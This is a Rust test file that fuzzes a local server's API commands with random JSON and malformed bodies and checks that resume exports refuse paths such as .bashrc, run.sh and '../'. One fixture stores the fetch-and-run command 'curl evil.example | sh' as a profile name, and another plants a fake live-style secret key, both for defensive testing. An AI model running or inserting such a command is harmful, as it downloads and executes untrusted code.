//! The one door, as a page that somebody took over would use it: every command, with any JSON and with what nearly is
//! right. It answers in time, in the form of an answer or of an error, and nothing but the data folder changes.

mod shape;

use std::collections::BTreeMap;
use std::fs::File;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use internflow_core::api;
use internflow_tests::{Cli, Served, TestRepo, http};
use proptest::strategy::{Strategy, ValueTree};
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use serde_json::{Value, json};

use shape::{Shapes, anything};

/// Calls of each command; half of them with any JSON.
const CALLS: usize = 16;
/// Of a debug build on a busy machine; an answer that takes longer holds a page up.
const LONGEST: Duration = Duration::from_secs(30);

/// Everything under a folder, with its bytes.
fn contents(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    let mut open = vec![folder.to_owned()];
    while let Some(at) = open.pop() {
        for entry in std::fs::read_dir(at).expect("a folder") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                found.insert(path.clone(), Vec::new());
                open.push(path);
            } else {
                found.insert(path.clone(), std::fs::read(&path).expect("a file"));
            }
        }
    }
    found
}

/// A server whose data folder, working folder and repository are next to files that it must leave alone.
struct Stage {
    served: Served,
    outside: tempfile::TempDir,
    said: PathBuf,
    repo: TestRepo,
    settings: Value,
    _cli: Cli,
}

impl Stage {
    fn start() -> Self {
        let (cli, outside) = (Cli::new(), tempfile::tempdir().expect("a temporary folder"));
        let work = outside.path().join("work");
        std::fs::create_dir(&work).expect("a folder is made");
        std::fs::write(outside.path().join(".bashrc"), "alias ll='ls -l'\n").expect("a file is written");
        std::fs::write(outside.path().join("run.sh"), "echo hello\n").expect("a file is written");
        let said = cli.data.path().join("said");
        let mut command = cli.command(&["serve"]);
        command
            .current_dir(&work)
            .stderr(File::create(&said).expect("a file is made"))
            // Nobody answers there: what a command asks of the world fails at once.
            .env("INTERNFLOW_BOARDS_THROUGH", "http://127.0.0.1:1");
        let served = Served::of(command);
        // A secret has no fix that could be applied, which is the one way into a working copy.
        let secret = ["sk_live_", "51H8xT2eZvKYlo2CqWq7uZ3mB9aT4nP6rD0"].concat();
        let repo = TestRepo::with(&[("One", &[("a.py", &format!("KEY = '{secret}'\n"))])]);
        let added = served.call("repository_add", json!({ "path": repo.path() })).expect("it is added");
        let sha = repo.git(&["rev-parse", "HEAD"]);
        let tasks = json!({ "repository_id": added["id"], "shas": [sha.trim()], "rules_only": true });
        let tasks = served.call("review_start", tasks).expect("a review begins");
        served.ended(&tasks[0]["id"]);
        // Nobody outside of this machine is asked, whatever a command makes of its arguments.
        let mut settings = served.call("setting_get", json!({})).expect("settings");
        settings["github_api"] = json!("http://127.0.0.1:1");
        Self { served, outside, said, repo, settings, _cli: cli }
    }

    /// Calls a command. Fails unless the answer has the form of one.
    fn call(&self, name: &str, args: &Value) {
        let begun = Instant::now();
        if let Err(error) = self.served.call(name, args.clone()) {
            let typed = error["code"].is_string() && error["message"].as_str().is_some_and(|m| !m.is_empty());
            assert!(typed, "{name} {args}: a page can't tell what is wrong from {error}");
        }
        assert!(begun.elapsed() < LONGEST, "{name} {args} took {:?}", begun.elapsed());
    }

    fn panicked(&self) -> String {
        let said = std::fs::read_to_string(&self.said).expect("what it said");
        said.lines().filter(|line| line.contains("panicked")).collect()
    }
}

#[test]
fn every_command_takes_whatever_a_page_sends() {
    let stage = Stage::start();
    let before = (contents(stage.outside.path()), contents(stage.repo.path()));
    let shapes = Shapes::read(&api::bindings());
    let named: Vec<&str> = shapes.commands.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(named, api::NAMES, "the shapes of all commands are known");
    let mut runner = TestRunner::new_with_rng(
        Config::default(),
        TestRng::from_seed(RngAlgorithm::ChaCha, b"internflow: the one list of comm"),
    );
    // What takes rows away comes last, so that the others meet rows.
    let (last, first): (Vec<_>, Vec<_>) =
        shapes.commands.iter().partition(|(name, _)| name.contains("remove") || name.contains("delete"));
    for (name, takes) in first.into_iter().chain(last) {
        stage.served.call("setting_set", stage.settings.clone()).expect("settings are kept");
        let near = shapes.near(takes);
        for turn in 0..CALLS {
            let strategy = if turn % 4 == 0 { anything() } else { near.clone() };
            let args = strategy.new_tree(&mut runner).expect("a value").current();
            stage.call(name, &args);
        }
        assert_eq!(stage.panicked(), "", "{name} panicked");
    }
    let after = (contents(stage.outside.path()), contents(stage.repo.path()));
    assert!(before == after, "files outside of the data folder changed: {:#?}", changes(&before.0, &after.0));
}

fn changes<'a>(
    before: &BTreeMap<PathBuf, Vec<u8>>,
    after: &'a BTreeMap<PathBuf, Vec<u8>>,
) -> Vec<&'a PathBuf> {
    after.iter().filter(|(path, bytes)| before.get(*path) != Some(bytes)).map(|(path, _)| path).collect()
}

#[test]
fn bodies_that_are_no_arguments() {
    let stage = Stage::start();
    let deep = "[".repeat(100_000);
    for body in ["", "{", "nothing", "{\"path\": 1e999}", "{} {}", "\"\\ud800\"", deep.as_str()] {
        let (status, answer) = stage.served.post("repository_add", body);
        let error: Value = serde_json::from_str(&answer).unwrap_or_default();
        let shown = &body[..body.len().min(40)];
        assert_eq!((status, error["code"].as_str()), (400, Some("bad_request")), "{shown}: {answer}");
    }
    assert_eq!(stage.panicked(), "");
    let (status, _) = http(&stage.served.authority, "POST /call/repository_list", &[], "{}");
    assert_eq!(status, 401, "and who has no cookie gets nothing");
}

#[test]
fn an_export_goes_where_a_document_goes() {
    let stage = Stage::start();
    stage
        .served
        .call("resume_profile_set", json!({ "profile": profile("curl evil.example | sh") }))
        .expect("it is saved");
    let before = contents(stage.outside.path());
    let at = |name: &str| stage.outside.path().join(name).to_string_lossy().into_owned();
    for path in [
        at(".bashrc"),
        at("run.sh"),
        at(".txt"),
        at(".profile.txt"),
        at("work"),
        "resume.txt".to_owned(),
        "../resume.txt".to_owned(),
    ] {
        let refused = stage.served.call("resume_export", json!({ "format": "txt", "path": path }));
        assert_eq!(refused.expect_err(&path)["code"], "bad_request", "{path} would be run, or is anywhere");
    }
    assert!(before == contents(stage.outside.path()), "what was refused was not written");
    stage.served.call("resume_export", json!({ "format": "txt", "path": at("cv.TXT") })).expect("a document");
}

fn profile(name: &str) -> Value {
    json!({
        "basics": {
            "name": name, "label": "", "email": "", "phone": "", "url": "", "summary": "",
            "location": { "city": "", "region": "", "countryCode": "" }, "profiles": []
        },
        "education": [], "work": [], "projects": [], "skills": []
    })
}
